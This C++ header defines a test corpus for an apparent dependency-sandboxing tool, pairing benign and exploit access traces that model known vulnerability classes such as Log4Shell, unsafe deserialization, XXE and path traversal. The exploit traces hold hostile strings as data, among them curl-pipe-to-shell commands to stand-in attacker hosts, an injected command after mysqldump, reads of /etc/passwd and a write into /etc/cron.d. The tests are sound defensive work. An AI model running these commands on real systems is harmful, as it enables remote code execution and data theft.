#pragma once

#include <string>
#include <string_view>
#include <vector>

#include "ztd/authz.hpp"
#include "ztd/policy.hpp"
#include "ztd/trace.hpp"

// Scenario corpus: hand-authored trace pairs modeling real dependency
// vulnerabilities at the call-stack/resource level. Each scenario carries a
// benign trace (the behavior policies are discovered from) and an exploit
// trace (the post-compromise behavior enforcement must stop), sharing one
// dependency manifest. Traces model the access pattern of the exploit class,
// not runtime-specific payloads.

namespace ztd {

struct Scenario {
    std::string name;
    std::string vulnerability_class;
    // Namespace the denial should be attributed to when the exploit runs
    // against policies discovered from the benign trace.
    std::string vulnerable_namespace;
    // Resource classes the exploit abuses; the first denial's op must be one
    // of these.
    std::vector<ResourceOp> impact_ops;
    std::vector<std::string> manifest;
    std::vector<TraceEvent> benign_trace;
    std::vector<TraceEvent> exploit_trace;
};

namespace detail {

inline TraceEvent access(std::uint64_t seq, ThreadId thread, ResourceOp op, std::string object,
                         std::vector<std::string> stack) {
    AccessEvent event;
    event.seq = seq;
    event.thread = thread;
    event.op = op;
    event.object = std::move(object);
    event.stack = std::move(stack);
    return event;
}

inline TraceEvent spawn(std::uint64_t seq, ThreadId parent, ThreadId child,
                        std::vector<std::string> stack) {
    SpawnEvent event;
    event.seq = seq;
    event.parent_thread = parent;
    event.child_thread = child;
    event.stack = std::move(stack);
    return event;
}

}  // namespace detail

inline std::vector<Scenario> builtin_scenarios() {
    using detail::access;
    using detail::spawn;
    using enum ResourceOp;

    std::vector<Scenario> scenarios;

    // Unsafe YAML deserialization in a web service (CVE-2020-8441 shape): a
    // crafted document makes the deserializer spawn a process and drop a
    // file. Benign behavior only ever reads config through the parser.
    {
        Scenario s;
        s.name = "deserialization-model";
        s.vulnerability_class = "deserialization";
        s.vulnerable_namespace = "org.ho.yaml";
        s.impact_ops = {RuntimeExec, FsWrite};
        s.manifest = {"io.javalin", "org.ho.yaml"};
        s.benign_trace = {
            access(1, 0, FsRead, "app/config/routes.yaml",
                   {"org.ho.yaml.YamlReader", "io.javalin.core.JavalinConfig",
                    "com.example.app.Main"}),
            access(2, 0, NetConnect, "0.0.0.0:7000",
                   {"io.javalin.jetty.JettyServer", "io.javalin.Javalin", "com.example.app.Main"}),
            access(3, 0, FsRead, "app/config/users.yaml",
                   {"org.ho.yaml.YamlReader", "io.javalin.http.Handler", "com.example.app.Main"}),
        };
        s.exploit_trace = {
            access(1, 0, FsRead, "app/config/routes.yaml",
                   {"org.ho.yaml.YamlReader", "io.javalin.core.JavalinConfig",
                    "com.example.app.Main"}),
            access(2, 0, RuntimeExec, "sh -c id>/tmp/pwned",
                   {"org.ho.yaml.YamlReader", "io.javalin.http.Handler", "com.example.app.Main"}),
            access(3, 0, FsWrite, "/tmp/pwned",
                   {"org.ho.yaml.YamlReader", "io.javalin.http.Handler", "com.example.app.Main"}),
        };
        scenarios.push_back(std::move(s));
    }

    // Logging-triggered JNDI injection (CVE-2021-44228 shape): a logged
    // string makes the logger dial out to an attacker directory service and
    // execute fetched code. Benign behavior writes log files, including from
    // an async logger thread.
    {
        Scenario s;
        s.name = "log4shell-model";
        s.vulnerability_class = "code-injection";
        s.vulnerable_namespace = "org.apache.logging.log4j";
        s.impact_ops = {NetConnect, RuntimeExec};
        s.manifest = {"org.apache.logging.log4j"};
        s.benign_trace = {
            access(1, 0, FsWrite, "logs/app.log",
                   {"org.apache.logging.log4j.core.appender.FileManager",
                    "org.apache.logging.log4j.core.Logger", "com.example.shop.Checkout"}),
            spawn(2, 0, 1,
                  {"org.apache.logging.log4j.core.async.AsyncLoggerDisruptor",
                   "com.example.shop.Main"}),
            access(3, 1, FsWrite, "logs/app.log",
                   {"org.apache.logging.log4j.core.appender.FileManager",
                    "org.apache.logging.log4j.core.async.AsyncLogger"}),
        };
        s.exploit_trace = {
            access(1, 0, NetConnect, "attacker.example:1389",
                   {"org.apache.logging.log4j.core.net.JndiManager",
                    "org.apache.logging.log4j.core.pattern.MessagePatternConverter",
                    "com.example.shop.Checkout"}),
            access(2, 0, RuntimeExec, "sh -c curl attacker.example/stage2|sh",
                   {"org.apache.logging.log4j.core.net.JndiManager",
                    "org.apache.logging.log4j.core.Logger", "com.example.shop.Checkout"}),
        };
        scenarios.push_back(std::move(s));
    }

    // Routing-expression evaluation (CVE-2022-22963 shape): a crafted header
    // reaches an expression evaluator that spawns a process. The expression
    // library never touches resources in benign runs, so no policy exists for
    // it and the denial lands on the function-routing dependency.
    {
        Scenario s;
        s.name = "routing-expression-model";
        s.vulnerability_class = "code-injection";
        s.vulnerable_namespace = "org.springframework.cloud.function";
        s.impact_ops = {RuntimeExec};
        s.manifest = {"org.springframework.cloud.function", "org.springframework.expression"};
        s.benign_trace = {
            access(1, 0, FsRead, "app/config/function.yml",
                   {"org.springframework.cloud.function.context.FunctionRegistry",
                    "com.example.fn.App"}),
            access(2, 0, FsRead, "app/data/orders.json",
                   {"org.springframework.cloud.function.context.config.RoutingFunction",
                    "com.example.fn.App"}),
        };
        s.exploit_trace = {
            access(1, 0, RuntimeExec, "curl http://evil.example/p | sh",
                   {"org.springframework.expression.spel.ast.MethodReference",
                    "org.springframework.cloud.function.context.config.RoutingFunction",
                    "com.example.fn.App"}),
        };
        scenarios.push_back(std::move(s));
    }

    // Command injection into an embedded database launcher (CVE-2022-25914
    // shape): benign runs legitimately execute the bundled server binary, so
    // the exploit is caught not by the operation but by the program token.
    {
        Scenario s;
        s.name = "command-injection-model";
        s.vulnerability_class = "command-injection";
        s.vulnerable_namespace = "com.wix.mysql";
        s.impact_ops = {RuntimeExec};
        s.manifest = {"com.wix.mysql"};
        s.benign_trace = {
            access(1, 0, FsRead, "app/db/defaults.cnf",
                   {"com.wix.mysql.config.MysqldConfig", "com.wix.mysql.EmbeddedMysql",
                    "com.example.svc.Main"}),
            access(2, 0, RuntimeExec, "mysqld --defaults-file=app/db/defaults.cnf",
                   {"com.wix.mysql.runtime.Mysqld", "com.wix.mysql.EmbeddedMysql",
                    "com.example.svc.Main"}),
        };
        s.exploit_trace = {
            access(1, 0, RuntimeExec, "sh -c mysqldump --databases x; curl evil.example",
                   {"com.wix.mysql.runtime.Mysqld", "com.wix.mysql.EmbeddedMysql",
                    "com.example.svc.Main"}),
        };
        scenarios.push_back(std::move(s));
    }

    // XML external entity exfiltration from a migration tool (CVE-2022-0839
    // shape): a changelog with an external entity reads a host file and posts
    // it to an attacker endpoint. Single-component namespace.
    {
        Scenario s;
        s.name = "xxe-exfiltration-model";
        s.vulnerability_class = "xxe";
        s.vulnerable_namespace = "liquibase";
        s.impact_ops = {FsRead, NetConnect};
        s.manifest = {"liquibase"};
        s.benign_trace = {
            access(1, 0, FsRead, "app/db/changelog.xml",
                   {"liquibase.parser.core.xml.XMLChangeLogSAXParser", "liquibase.Liquibase",
                    "com.example.migrate.Main"}),
            access(2, 0, NetConnect, "db.internal:5432",
                   {"liquibase.database.jvm.JdbcConnection", "liquibase.Liquibase",
                    "com.example.migrate.Main"}),
        };
        s.exploit_trace = {
            access(1, 0, FsRead, "/etc/passwd",
                   {"liquibase.parser.core.xml.XMLChangeLogSAXParser", "liquibase.Liquibase",
                    "com.example.migrate.Main"}),
            access(2, 0, NetConnect, "attacker.example:8000",
                   {"liquibase.parser.core.xml.XMLChangeLogSAXParser", "liquibase.Liquibase",
                    "com.example.migrate.Main"}),
        };
        scenarios.push_back(std::move(s));
    }

    // Archive/path handling escape (CVE-2022-4244 shape): crafted paths walk
    // out of the sanctioned data root. The first exploit event is a
    // normalization-equivalent spelling of a benign object and must pass; the
    // escapes must not.
    {
        Scenario s;
        s.name = "path-traversal-model";
        s.vulnerability_class = "path-traversal";
        s.vulnerable_namespace = "org.codehaus.plexus.util";
        s.impact_ops = {FsRead, FsWrite};
        s.manifest = {"org.codehaus.plexus.util"};
        s.benign_trace = {
            access(1, 0, FsRead, "app/data/bundles/report.xml",
                   {"org.codehaus.plexus.util.xml.Xpp3DomBuilder",
                    "org.codehaus.plexus.util.ReaderFactory", "com.example.build.Main"}),
            access(2, 0, FsWrite, "app/data/bundles/out/report.html",
                   {"org.codehaus.plexus.util.FileUtils", "com.example.build.Main"}),
        };
        s.exploit_trace = {
            access(1, 0, FsRead, "app/data/bundles/./report.xml",
                   {"org.codehaus.plexus.util.xml.Xpp3DomBuilder",
                    "org.codehaus.plexus.util.ReaderFactory", "com.example.build.Main"}),
            access(2, 0, FsRead, "/etc/passwd",
                   {"org.codehaus.plexus.util.xml.Xpp3DomBuilder",
                    "org.codehaus.plexus.util.ReaderFactory", "com.example.build.Main"}),
            access(3, 0, FsWrite, "app/data/../../etc/cron.d/evil",
                   {"org.codehaus.plexus.util.FileUtils", "com.example.build.Main"}),
        };
        scenarios.push_back(std::move(s));
    }

    return scenarios;
}

inline const Scenario* find_scenario(const std::vector<Scenario>& scenarios,
                                     std::string_view name) {
    for (const auto& s : scenarios)
        if (s.name == name) return &s;
    return nullptr;
}

}  // namespace ztd
